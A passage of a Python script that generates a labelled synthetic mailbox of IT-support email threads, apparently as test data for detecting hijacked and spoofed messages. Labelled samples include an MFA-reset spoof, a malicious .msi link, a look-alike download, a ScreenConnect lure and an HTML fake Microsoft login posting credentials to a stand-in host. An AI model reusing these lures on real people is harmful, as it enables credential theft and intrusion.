t13.add(tricor_acc, "Dear Sipho\n\nThank you for verifying telephonically - that's exactly what we hoped customers would do.", at(2025, 3, 11, 10, 31), G)
notice(tricor_acc, "exo", at(2025, 4, 3, 6, 12), "Tax Invoice INV-90412 - Tafelberg IT Services (Pty) Ltd",
       "Dear Customer\n\nPlease find attached tax invoice INV-90412 dated 02/04/2025 for R 41 860,25 (incl. VAT), due 30 days from statement.\n\n"
       "Banking details: Nedbank Ltd, branch code 198765, account number 1187 555 402, reference: customer code TAF001.\n\n"
       "This is a system-generated email from our accounting system. Queries: creditcontrol@tricor-dist.example" + tricor_acc.sig, None,
       label=GH, scen=("G17", "first distributor invoice with the new, phone-verified bank details (fresh email, PDF)"),
       atts=[("INV-90412.pdf", pdf(["TRICOR DISTRIBUTION (PTY) LTD - TAX INVOICE INV-90412", "Customer: Tafelberg IT Services (TAF001)",
                                    "Total incl. VAT: R 41 860,25", "Nedbank 198765 / 1187 555 402"], producer="Sage Intacct", when="20250403061000"), "application/pdf")])

# ================================================================ T20 Karoo MD: new phone / MFA (Mar 2025): iPad at 06:10 Saturday (G26), A8 display-name spoof
t20 = Thread("T20", johan, "New phone next week - Authenticator?")
t20.add(johan, "Sipho\n\nI'm getting the new iPhone on Friday. What must I do so the Authenticator and the banking app move over without "
        "locking me out? Last time it was a whole morning's work.", at(2025, 3, 13, 7, 48))
t20.add(me, "Morning Johan\n\nBefore you switch phones, open Authenticator on the old phone, go to Settings and turn on iCloud backup. "
        "On the new phone, install Authenticator and sign in with the same Apple ID - the accounts come across, and you re-approve each one. "
        "Keep the old phone until we've checked everything works. The banking app you'll have to re-link with the bank.", at(2025, 3, 13, 9, 2))
t20.add(johan, "Backup is on. Collecting the phone this afternoon, will only set it up on Monday.\n\nSent from my iPad",
        at(2025, 3, 15, 6, 10), GH, client="ipad", sig=False,
        scen=("G26", "the MD from his iPad on the real account at 06:10 on a Saturday, no signature"))
t20.add(me, "Sounds good. If anything doesn't come across, I can be at your office on Tuesday at 10:00 with both phones.", at(2025, 3, 17, 8, 30))
t20.add(johan, "Tuesday 10:00 is booked. Two of the accounts need re-approval, the rest came across.", at(2025, 3, 17, 12, 14), G)
spoofj = Pt("Johan Botha", "johanbotha.karoo@gmail.com", "gmail", "gmail")
t20.add(spoofj, "Sipho\n\nChange of plan, I'm at the airport for Durban. The new phone is set up but the Authenticator now won't let me in "
        "at all and I need to release a payment from the road. Please reset my MFA now so I can register again, and create a temporary admin "
        "account for me (j.botha.admin) in case it happens again. Send me the login details here, my work mail isn't syncing.\n\nJohan\n\nSent from my iPhone",
        at(2025, 3, 19, 7, 36), HJ("display-name-spoof"), sig=False,
        scen=("A8", "client MD's display name from Gmail: reset MFA for the 'new phone' and create a new admin account"))

# ================================================================ T16 Vaultline (UK): backup licence renewal, GMT -> BST (G23)
t16 = Thread("T16", oliver, "Vaultline renewal 2025 - Tafelberg IT (8 tenants)")
t16.add(oliver, "Hi Sipho,\n\nHope all is well in Cape Town. Your Vaultline Microsoft 365 backup licences for the eight client tenants come up "
        "for renewal on 30 April. The renewal quote at current pricing is attached - 214 seats in total.", at(2025, 3, 18, 10, 5, LON),
        atts=[("Vaultline_Renewal_Q-25-0418.pdf", pdf(["Vaultline Backup Ltd - Renewal Quote Q-25-0418", "Partner: Tafelberg IT Services",
                                                       "M365 Backup, 214 seats, 12 months", "Total: USD 3 852.00"], producer="Google Docs Renderer", when="20250318100000", zone="Z"), "application/pdf")])
t16.add(me, "Hi Oliver\n\nThanks. Is there a discount for a three-year term? Our rand/dollar budget is easier to manage that way.", at(2025, 3, 18, 14, 20))
t16.add(oliver, "A three-year term comes with 12% off, billed annually in advance. I can also align the Atlantic Dental tenant, which is "
        "on a separate anniversary in July, if that helps.", at(2025, 3, 19, 9, 12, LON), G)
t16.add(me, "Let's stay on one year for now, but please co-term Atlantic Dental into this renewal.", at(2025, 3, 24, 11, 40))
t16.add(oliver, "Done - revised quote attached with Atlantic Dental co-termed (prorated credit shown on line 4). Note our clocks went "
        "forward on Sunday, so I'm an hour closer to you now.", at(2025, 4, 2, 9, 3, LON), GH,
        scen=("G23", "UK vendor reply after the BST change (+0100 instead of +0000), revised quote PDF"),
        atts=[("Vaultline_Renewal_Q-25-0418_rev1.pdf", pdf(["Vaultline Backup Ltd - Renewal Quote Q-25-0418 rev 1", "Line 4: Atlantic Dental co-term credit",
                                                            "Total: USD 3 711.40"], producer="Google Docs Renderer", when="20250402085800", zone="+01'00'"), "application/pdf")])
t16.add(me, "Approved, PO TIT-PO-0177 attached.", at(2025, 4, 2, 12, 15),
        atts=[("TIT-PO-0177.pdf", pdf(["Tafelberg IT Services - Purchase Order TIT-PO-0177", "Supplier: Vaultline Backup Ltd", "Ref Q-25-0418 rev 1"],
                                      producer="Skia/PDF m131", when="20250402121000"), "application/pdf")])
t16.add(oliver, "Thanks Sipho, licences are extended to 30 April 2026. Invoice will follow from our finance team.", at(2025, 4, 3, 8, 47, LON), G)

# ================================================================ T4 Atlantic Dental: X-ray sensor after Windows update (Mar 2025) + A5 .vbs
t4 = Thread("T4", fatima, "X-ray PC room 2 - sensor not connected")
t4.add(fatima, "Good morning Sipho\n\nThe X-ray computer in room 2 says 'sensor not connected' since it restarted for updates last night. "
       "Dr Abrahams has patients booked for X-rays from 10:00.", at(2025, 3, 18, 8, 55))
t4.add(me, "Morning Fatima\n\nWhich imaging program does the PC run, and is the sensor cable plugged into the same USB port as before? "
       "I can connect remotely as soon as room 2 is free.", at(2025, 3, 18, 9, 30))
t4.add(fatima, "It's the Sidexis program. The cable hasn't been touched. Room 2 is free from 13:00.", at(2025, 3, 18, 9, 48), G)
t4.add(me, "Sorted: last night's update replaced the USB controller driver. I rolled it back and paused updates on that PC for five weeks. "
       "Please take a test image before the next patient.", at(2025, 3, 18, 14, 20))
t4.add(nadia, "Test image is fine and we've done two patients since. Can we stop this from happening every month?", at(2025, 3, 18, 16, 5), G)
t4.add(me, "Hi Dr Abrahams\n\nYes - I'll move that PC into a separate update group that only gets patches after we've tested them against "
       "Sidexis, usually a week later. There's no extra cost under your contract.", at(2025, 3, 19, 8, 10), to=[(nadia.name, nadia.email)])
t4.add(nadia, "Hi Sipho\n\nPlease see the attached exclusion form from the sensor supplier for the update group, fill it in and send it "
       "back today so they can log it.", at(2025, 3, 20, 11, 26), HJ("account-takeover"),
       atts=[("Sensor_Update_Exclusion_Form.vbs", ("' inert probe placeholder - not functional\r\nDim s: s = \"" + alnum(48) + "\"\r\n").encode(), "application/octet-stream")],
       scen=("A5", "client's Zoho account replies with a .vbs 'exclusion form' attachment"))

# ================================================================ T10 Southern Cross Freight: VPN migration (Mar 2025) + A2 account takeover at 03:10
t10 = Thread("T10", aisha, "VPN change for your office and drivers")
t10.add(me, "Hi Aisha\n\nWe're replacing your old L2TP VPN with the SentryConnect client next week, because Windows is dropping support "
        "for the old protocol. I'd like to do the six office PCs on Monday 31 March and the drivers' laptops when they're back in the depot.",
        at(2025, 3, 24, 10, 10))
t10.add(aisha, "Hi Sipho\n\nMonday is fine for the office. The drivers are on the road Tuesday to Thursday, so Friday morning is best for them.",
        at(2025, 3, 24, 11, 52), G)
t10.add(me, "Great: office PCs Monday from 8:00, laptops Friday 4 April from 7:30 at the depot. I'll bring the installers, so nobody "
        "needs to download anything.", at(2025, 3, 25, 9, 4))
t10.add(aisha, "Noted, I'll let everyone know.", at(2025, 3, 25, 9, 30), G)
t10.add(aisha, "Hi Sipho\n\nTo save time on Monday the SentryWall rep sent us the new VPN client directly. Can you please install it from "
        "this link on the office PCs tonight, and check it works from your side before the drivers use it?\n\n"
        "https://www.capewinelandstours.example/wp-content/uploads/2025/03/SentryConnect_VPN_Client_x64.msi\n\nThanks",
        datetime.datetime(2025, 3, 26, 21, 10, 44, tzinfo=ZoneInfo("America/New_York")), HJ("account-takeover"), client="emclient", sig=False,
        orig_ip="185.225.17." + str(R.randint(2, 250)), no_html=True,
        scen=("A2", "client's M365 account used from eM Client, foreign IP, -0400 Date (03:10 SAST): link to 'new VPN client' .msi on a hacked WordPress site"))

# ================================================================ T14 Tricor: account manager handover (announced), G14
t14 = Thread("T14", rudi, "Change of account manager at Tricor")
t14.add(rudi, "Hi Sipho\n\nSome news: from 1 May I'm moving to our Gauteng enterprise team. Nomvula Zulu (copied) takes over your account - "
        "she's been on the Western Cape desk for three years and knows your order history. I'll introduce you properly at the Dell "
        "breakfast on the 24th.", at(2025, 3, 31, 9, 40), cc=[(nomvula.name, nomvula.email)])
t14.add(me, "Congratulations Rudi, well deserved, and thanks for all the help over the years. Welcome Nomvula - looking forward to working "
        "with you.", at(2025, 3, 31, 10, 5), cc=[(nomvula.name, nomvula.email)])
t14.add(rudi, "Thanks Sipho! Enjoy the breakfast, the bacon at that venue is legendary.", at(2025, 4, 1, 8, 30), G, cc=[(nomvula.name, nomvula.email)])
t14.add(nomvula, "Hi Sipho\n\nAs Rudi mentioned, I've now taken over the Tafelberg account. Attached is the May price list for notebooks; "
        "the Latitude 5450 is back in stock in Cape Town, 40 units. Let me know if you need anything quoted.", at(2025, 5, 6, 9, 15), GH,
        scen=("G14", "distributor's new account manager writes after the announced handover (same tenant)"),
        atts=[("Tricor_Notebook_Pricelist_May2025.pdf", pdf(["Tricor Distribution - Notebook price list May 2025", "Dell Latitude 5450 i5/16/512 ... R 19 850",
                                                              "HP ProBook 450 G10 i5/16/512 ... R 17 990"], when="20250505170000"), "application/pdf")])
t14.add(me, "Thanks Nomvula. Please hold two 5450s for us until Friday - Karoo may need them for new dispatch staff.", at(2025, 5, 6, 10, 2))
t14.add(nomvula, "Two units reserved under your account until Friday 9 May.", at(2025, 5, 6, 10, 40), G)

# ================================================================ T6 Khumalo Architects: VPN for a new junior (Apr 2025) + A11 changed link in the quote
t6 = Thread("T6", sizwe, "VPN access for Zanele (new junior)")
t6.add(sizwe, "Hi Sipho\n\nZanele Mthembu joined us as a junior technologist. She'll work from home on Tuesdays and Thursdays and needs "
       "access to the plotter queue and the project share on the NAS from there.", at(2025, 4, 1, 9, 10))
t6.add(me, "Hi Sizwe\n\nShe can use the same VPN client as the rest of the office. She should download SentryConnect for Windows (64-bit, "
       "version 4.6.2) from the vendor's page:\nhttps://www.sentrywall.example/support/downloads/sentryconnect\n\nThen add a connection "
       "to vpn.khumaloarchitects.example, port 10443. I'll create her VPN user tonight and SMS her the details.", at(2025, 4, 1, 10, 2))
t6.add(sizwe, "Thanks. Is there a licence cost per extra VPN user?", at(2025, 4, 1, 10, 31), G)
t6.add(me, "No, your firewall licence includes up to ten remote users and you're on six now.", at(2025, 4, 1, 11, 15))
orig_q = t6.last["plain"]
t6.add(sizwe, "Hi Sipho\n\nZanele says the installer from your link gives her an error. I've pasted your earlier instructions below so "
       "you can see what she used - can you check the link and send her the right file?", at(2025, 4, 3, 9, 44), HJ("server-hijack"),
       quote_text=orig_q.replace("https://www.sentrywall.example/support/downloads/sentryconnect",
                                 "https://sentrywall-downloads.example/sentryconnect/4.6.2/SentryConnect-4.6.2-x64.msi"),
       scen=("A11", "client's real cPanel mailbox: quoted history is genuine except the vendor download link, swapped for a look-alike .msi"))

# ================================================================ T24 Karoo: camera access (Apr 2025): reply-all adds new IT person (G21, G22)
t24 = Thread("T24", michelle, "Warehouse cameras on Johan's phone")
t24.add(michelle, "Hi Sipho\n\nJohan would like to see the warehouse cameras on his phone when he's travelling. The camera company says "
        "you need to 'open a port on the firewall'. Can you arrange that?", at(2025, 4, 7, 11, 2))
t24.add(me, "Hi Michelle\n\nI'd rather not expose the recorder directly to the internet - those boxes are a favourite target. There are "
        "safer options: the camera vendor's own cloud app, or Johan connecting over the VPN first. Let me check what the recorder supports.",
        at(2025, 4, 7, 12, 30))
t24.add(michelle, "Adding Ravi Pillay, our new IT coordinator who started last week - he'll be your contact for the cameras and "
        "the day-to-day IT questions from now on.", at(2025, 4, 8, 8, 16), GH, cc=[(ravi.name, ravi.email)],
        scen=("G21", "office manager replies-all adding the client's new IT person in Cc"))
t24.add(me, "Welcome Ravi! Happy to go through your environment whenever suits you. Do you know the recorder's make and model?",
        at(2025, 4, 8, 8, 55), to=[(michelle.name, michelle.email), (ravi.name, ravi.email)])
t24.add(ravi, "Thanks Sipho. It's a Hikvision DS-7616NI-K2 on firmware 4.30. It supports their Hik-Connect app, which I'd prefer to a port "
        "forward. I can come to your office on Thursday if that's easier.", at(2025, 4, 8, 10, 41), GH, cc=[(michelle.name, michelle.email)],
        scen=("G22", "the client's new IT person (introduced via reply-all) replies himself"))
t24.add(me, "Agreed on Hik-Connect. Let's first update the firmware to 4.74, since 4.30 has a known authentication bypass. Thursday 14:00 "
        "at our office works.", at(2025, 4, 9, 9, 12), to=[(ravi.name, ravi.email)], cc=[(michelle.name, michelle.email)])
t24.add(ravi, "See you Thursday. I'll bring the recorder's admin password in a sealed envelope, Johan insists.", at(2025, 4, 9, 9, 50), G)
# O1: Werner replies in a thread between him and Ravi that Sipho was never on (parent not in the mailbox)
o1_parent = make_mid(ravi, "exo", at(2025, 4, 11, 15, 0))
emit(werner, "tb", at(2025, 4, 11, 16, 22), [(ravi.name, ravi.email)], [(me.name, me.email)], "Re: NVR firmware 4.74 - rollback plan", [o1_parent],
     "Hi Ravi\n\n+Sipho for visibility.\n\nThe 4.74 image keeps the channel config; if it fails we can downgrade to 4.62 from the local "
     "console, not from the web UI. I'll bring a USB stick with both images on Thursday.\n\nOn 11/04/2025 15:00, Ravi Pillay wrote:\n"
     "> Werner, what's our way back if 4.74 breaks the recorder? The warehouse can't be without cameras overnight.\n> \n> Ravi" + werner.sig,
     label=GO, scen=("O1", "colleague replies in a thread with the client's IT person, copying Sipho in; parent message not in the mailbox"))

# ================================================================ T11 Adams & Co (SCF's accountant): invoice query with known bank details (G11) + A13 look-alike HTML login
t11 = Thread("T11", bronwyn, "Southern Cross Freight year-end - invoice TIT-2025-0312")
t11.add(bronwyn, "Good afternoon Sipho\n\nI'm finalising Southern Cross Freight's February year-end. Your invoice TIT-2025-0312 for R 18 450,00 "
        "still shows as open in their creditors, but Aisha says it was paid. Could you send me a statement for February?", at(2025, 4, 14, 14, 2))
t11.add(me, "Hi Bronwyn\n\nStatement attached. The invoice shows as open on our side too. For reference, our banking details are "
        "Standard Bank, branch code 051001, account 072 555 318, Tafelberg IT Services (Pty) Ltd.", at(2025, 4, 14, 15, 10),
        atts=[("Statement_SCF001_Feb2025.pdf", pdf(["Tafelberg IT Services - Customer statement SCF001", "28/02/2025 TIT-2025-0312 R 18 450,00",
                                                    "Standard Bank 051001 / 072 555 318"], producer="Xero", when="20250414150500"), "application/pdf")])
t11.add(bronwyn, "Thanks Sipho. Found it - the payment went to account 072 555 318 on 28 February with reference SCF0312 instead of the "
        "invoice number, so it probably sits unallocated on your side. Could you allocate it and send an updated statement?",
        at(2025, 4, 15, 9, 33), GH, scen=("G11", "client's accountant discusses an invoice payment quoting the MSP's real bank details already in the thread"))
t11.add(me, "You're right, it was sitting in unallocated receipts. Allocated now; updated statement attached with a zero balance.",
        at(2025, 4, 15, 11, 5), atts=[("Statement_SCF001_Apr2025.pdf", pdf(["Tafelberg IT Services - Customer statement SCF001", "Balance: R 0,00"],
                                                                           producer="Xero", when="20250415110000"), "application/pdf")])
t11.add(bronwyn, "Perfect, that reconciles. Thank you for the quick turnaround.", at(2025, 4, 16, 8, 20), G)
lka = Pt("Bronwyn Adams", "bronwyn@adamsco-acountants.example", "roundcube", "look-adams",
         "\n\nKind regards\nBronwyn Adams CA(SA)\nAdams & Co Chartered Accountants\nClaremont, Cape Town | 021 555 1180")
fake_login = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title></head><body style="font-family:Segoe UI,sans-serif;background:#f2f2f2">'
              '<div style="width:440px;margin:80px auto;background:#fff;padding:44px"><img src="data:image/svg+xml;base64,PHN2Zy8+" alt="Microsoft" width="108">'
              '<h2>Sign in to view remittance</h2><form method="post" action="https://login-microsoftonline.adams-secure-docs.example/owa/auth.php">'
              '<input type="email" name="login" value="sipho@tafelberg-it.example" style="width:100%"><br><input type="password" name="passwd" placeholder="Password" style="width:100%">'
              '<br><button type="submit" style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Sign in</button></form>'
              '<!-- inert probe placeholder: fictional domain, no script --></div></body></html>')
t11.add(lka, "Hi Sipho\n\nFurther to the above, please find the attached remittance advice for the allocated payment. You'll need to sign in "
        "with your Microsoft account to view it, as it contains banking information.", at(2025, 4, 22, 10, 48), HJ("lookalike-domain"),
        atts=[("Remittance_Advice_SCF0312.html", fake_login.encode(), "text/html")],
        scen=("A13", "accountant look-alike domain (adamsco-acountants) quotes the real thread: HTML attachment with a fake Microsoft login"))

# ================================================================ T23 revived after 7 months (G20)
t23.add(greg, "Hi Sipho\n\nDigging this one up again - winter is quiet so it's a good time to do the cameras and the workshop wifi. I know "
        "the prices from September won't hold anymore; can you send an updated quote?", at(2025, 4, 15, 11, 12), GH,
        scen=("G20", "quote thread revived after 7 months of silence"))
t23.add(me, "Hi Greg\n\nGood timing. Updated quote attached - the NVR went up a bit, but the access point is cheaper now. We could install "
        "on a Monday when the shop is closed.", at(2025, 4, 15, 14, 30),
        atts=[("TIT-Q-2504-09_MuizenbergSurf.pdf", pdf(["Tafelberg IT Services - Quotation TIT-Q-2504-09 (replaces TIT-Q-2409-12)",
                                                        "4x 4MP turret camera, 1x 8ch NVR 2TB", "Total incl. VAT: R 25 115,00"], producer="Skia/PDF m135", when="20250415142500"), "application/pdf")])
t23.add(greg, "Go ahead. Monday the 28th?", at(2025, 4, 16, 8, 3), G)

# ================================================================ T7 revived after 5 months by A14 (Axxess account takeover, unknown ScreenConnect domain)
t7.add(lindiwe, "Hi Sipho\n\nThe reception computer is freezing again exactly like last time. The booking system company has set up a remote "
       "session so you can look at it together with them - please join from here, the code is already filled in:\n\n"
       f"https://rbphysio-support.rdesk-connect.example/Bin/ScreenConnect.ClientSetup.exe?e=Access&y=Guest&h=relay.rdesk-connect.example&p=443&s={ruuid()}"
       f"&k=BgIAAACkAABSU0Ex{alnum(30)}&t=&c=Reception\n\nThanks", at(2025, 4, 8, 7, 52), HJ("account-takeover"),
       xoip=f"45.141.87.{R.randint(2, 250)}",
       scen=("A14", "client webmail account (foreign originating IP) replies to a 5-month-old ticket with a ScreenConnect link on an unknown domain"))

# ================================================================ T22 Paarl: forwarded vendor advisory (G19)
t22 = Thread("T22", hendrik, "FW: SentryWall PSIRT advisory SWSA-2025-011: SSL-VPN heap overflow")
t22.add(hendrik, "Sipho, raak dit ons? Ons firewall is mos 'n SW-60F. I got this from the SentryWall newsletter.\n\nHendrik\n\n"
        "From: SentryWall PSIRT <psirt-noreply@sentrywall.example>\nSent: Wednesday, 23 April 2025 02:14\nTo: Hendrik Steyn <hendrik@paarlengineering.example>\n"
        "Subject: SentryWall PSIRT advisory SWSA-2025-011: SSL-VPN heap overflow\n\nA heap-based buffer overflow in the SSL-VPN daemon of SentryOS 7.4.0 "
        "through 7.4.5 may allow a remote unauthenticated attacker to execute code. See the attached advisory for fixed versions and workarounds.",
        at(2025, 4, 23, 7, 20), GH, sig=False, scen=("G19", "client forwards a vendor security advisory (FW:) with the advisory PDF"),
        atts=[("SWSA-2025-011.pdf", pdf(["SentryWall PSIRT Advisory SWSA-2025-011", "SSL-VPN heap overflow (CVSS 9.6)", "Affected: SentryOS 7.4.0 - 7.4.5",
                                         "Fixed: 7.4.6"], producer="Adobe PDF Library 24.1.187", when="20250422190000", zone="-05'00'"), "application/pdf")])
t22.add(me, "Môre Hendrik\n\nYes, it does - you're on 7.4.3, which is affected. We'll upgrade your firewall to 7.4.6 tonight at 19:00; "
        "the internet will drop for about five minutes. Until then I've disabled the SSL-VPN portal, since nobody at Paarl uses it.",
        at(2025, 4, 23, 8, 5))
t22.add(hendrik, "Baie dankie Sipho, goed so.", at(2025, 4, 23, 8, 22), G)

# ================================================================ A10 fake thread: stranger "RE: Your Microsoft 365 renewal" with a fabricated quote of Sipho
fk = Pt("Microsoft 365 Licensing Desk", "renewals@m365-licensing-renewals.example", "roundcube", "fake-renew")
fake_parent = "<CA" + base64.urlsafe_b64encode(rbytes(42)).decode()[:54] + "@mail.gmail.com>"
emit(fk, "roundcube", at(2025, 4, 2, 14, 37), [(me.name, me.email)], None, "RE: Your Microsoft 365 renewal", [fake_parent],
     "Hello Sipho,\n\nThank you for confirming. As requested, the renewal for your 45 Microsoft 365 Business Premium seats has been prepared "
     "at the discounted partner rate (valid until 4 April). To avoid service interruption for your customers, please complete payment "
     "through the secure renewal portal:\n\nhttps://m365-licensing-renewals.example/renew/TAF-6183442?sid=" + alnum(18) + "\n\n"
     "Kind regards\nLicensing Desk | Microsoft 365 Renewals EMEA\n\n"
     "On 2025-03-31 09:14, Sipho Dlamini wrote:\n> Hi,\n> Please send the renewal quote for our 45 Business Premium seats, we want to keep "
     "the same\n> term. Our partner ID is 6183442.\n>\n> Regards\n> Sipho", label=HJ("fake-thread"),
     scen=("A10", "stranger 'RE: Your Microsoft 365 renewal' with a fabricated quote of Sipho and a References id that is not in the mailbox"))

# ================================================================ T31 Paarl [MSP-4602]: UPS beeping; Hendrik replies to the ticket auto-ack (O2)
ack_mid = f"<desk.{int(at(2025, 5, 5, 7, 41).timestamp())}.{hx(10)}@desk.{OWN}>"
desk_note(at(2025, 5, 5, 7, 41), 4602, "[MSP-4602] New ticket: UPS in die bedienerkamer piep (Paarl Engineering Works)",
          "A new ticket was created by Hendrik Steyn <hendrik@paarlengineering.example> and assigned to you.\nGroup: Service Desk\nPriority: 2 normal")
emit(hendrik, "ex19p", at(2025, 5, 5, 8, 3), SUP, None, "RE: [MSP-4602] Ticket received: UPS in die bedienerkamer piep", [ack_mid],
     "Nog inligting: die UPS wys 'Battery replace' op die skerm en piep elke 30 sekondes. The unit is an APC Smart-UPS 1500, ongeveer "
     "vyf jaar oud." + hendrik.sig + "\n\nFrom: Tafelberg IT Helpdesk <support@tafelberg-it.example>\nSent: Monday, 05 May 2025 07:41\n"
     "To: Hendrik Steyn <hendrik@paarlengineering.example>\nSubject: [MSP-4602] Ticket received: UPS in die bedienerkamer piep\n\n"
     "Thank you for contacting Tafelberg IT Services. Your request has been logged as ticket MSP-4602 and an engineer will respond "
     "within your contract's response time.", label=GO, topic="[MSP-4602] Ticket received: UPS in die bedienerkamer piep",
     scen=("O2", "client replies to the ticket system's auto-acknowledgement, which only went to him (parent not in the mailbox)"))
emit(desk, "desk", at(2025, 5, 5, 8, 30), [(hendrik.name, hendrik.email)], None, "[MSP-4602] UPS in die bedienerkamer piep", [],
     "Hi Hendrik\n\nThanks - after five years the batteries are due. I've asked Tricor for an APC RBC7 battery cartridge and will swap it on "
     "Wednesday; it's hot-swappable, so the server stays up." + desk.sig)

# ================================================================ T25 Atlantic Dental: error screenshot after SQL update (G8)
t25 = Thread("T25", nadia, "SQL Server update tonight")
t25.add(me, "Hi Dr Abrahams\n\nWe'll install the cumulative update for the practice database server tonight after 19:00. It takes about "
        "twenty minutes. Please let me know tomorrow if anything looks odd.", at(2025, 5, 5, 11, 30), to=[(nadia.name, nadia.email)])
t25.add(nadia, "Morning Sipho\n\nThe practice program gives this error when we open the appointment book - screenshot attached. Fatima can "
        "still see patients' files, just not the appointments.", at(2025, 5, 6, 7, 48), GH,
        scen=("G8", "client sends a screenshot .png of an error"),
        atts=[("Screenshot 2025-05-06 074512.png", png(), "image/png")])
t25.add(me, "Thanks, that helped. The update reset the SQL service account's rights on the appointments database. Fixed - please "
        "reopen the program.", at(2025, 5, 6, 8, 20))
t25.add(nadia, "Appointment book is back. Thank you!", at(2025, 5, 6, 8, 34), G)

# ================================================================ T27 Khumalo: NAS disk warning, zipped support bundle (G27)
t27 = Thread("T27", sizwe, "NAS disk warning")
t27.add(me, "Hi Sizwe\n\nYour NAS has reported a growing number of bad sectors on disk 3. Could you download the support bundle "
        "(Control Panel > Support Centre > Support Services > Generate logs) and send it to me? The RMM can't pull it on that model.",
        at(2025, 5, 12, 9, 0))
t27.add(sizwe, "Here you go - the zip it generated is attached.", at(2025, 5, 12, 11, 27), GH,
        scen=("G27", "client sends the zipped NAS support bundle Sipho asked for"),
        atts=[("debug_KA-NAS01_20250512.zip", zipfile_bytes([("debug.dat", rbytes(2500)), ("smart_disk3.log", b"ID 5 Reallocated_Sector_Ct 0x0033 092 092 010 Pre-fail Always - 184\n")],
                                                            (2025, 5, 12, 11, 20, 0)), "application/zip")])
t27.add(me, "Thanks. Disk 3 has 184 reallocated sectors and climbing. I'd replace it this week while the array is still healthy - quote "
        "for one 8 TB IronWolf attached.", at(2025, 5, 13, 8, 45),
        atts=[("TIT-Q-2505-04_Khumalo.pdf", pdf(["Tafelberg IT Services - Quotation TIT-Q-2505-04", "1x Seagate IronWolf 8TB", "Total incl. VAT: R 4 370,00"],
                                                producer="Skia/PDF m135", when="20250513084000"), "application/pdf")])
t27.add(sizwe, "Approved, go ahead.", at(2025, 5, 13, 9, 20), G)

# ================================================================ write, in arrival order
pending.sort(key=lambda x: (x[0], x[1]))
labels = ["mailbox\tmessage_id\tlabel\tkind"]
scen = ["file\tscenario\tdescription"]
for i, (t, _, folder, raw, lab, sc) in enumerate(pending, 1):
    path = f"mailboxes/{MB}/{folder}/{i}.eml"
    with open(f"{root}/{path}", "w", encoding="utf-8", newline="") as f: f.write(raw)
    if lab:
        labels.append(f"{MB}\t{lab[0]}\t{lab[1][0]}\t{lab[1][1]}")
        if not sc: raise SystemExit(f"labelled message without scenario: {lab}")
        scen.append(f"{path}\t{sc[0]}\t{sc[1]}")
open(f"{root}/labels.tsv", "w", encoding="utf-8").write("\n".join(labels) + "\n")
open(f"{root}/scenarios.tsv", "w", encoding="utf-8").write("\n".join(scen) + "\n")
print(f"{len(pending)} messages, {len(labels) - 1} labelled ({sum(1 for l in labels[1:] if l.split(chr(9))[2] == 'hijack')} hijack) -> {root}")
